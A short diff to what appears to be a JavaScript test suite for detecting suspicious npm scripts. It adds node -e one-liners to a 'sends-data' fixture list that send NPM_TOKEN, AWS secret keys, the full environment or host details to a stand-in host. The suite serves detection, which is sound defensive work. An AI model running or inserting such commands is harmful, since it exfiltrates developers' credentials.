@@ -100,6 +100,8 @@ describe('suspicious scripts', () => {
       `curl "https://x.example.test/?t=\${NPM_TOKEN}"`,
     ],
     'sends-data: node -e …': [
+      `node -e "require('https').get('https://x.example.test/'+process.env.NPM_TOKEN)"`,
+      `node -e 'fetch(\`https://x.example.test/\${encodeURIComponent(process.env.AWS_SECRET_ACCESS_KEY)}\`)'`,
       "node -e \"fetch('https://x.example.test',{method:'POST',body:JSON.stringify(process.env)})\"",
       "node -e \"const o=require('os');require('https').get('https://x.example.test/?h='+o.hostname()+'&u='+o.userInfo().username)\"",
     ],
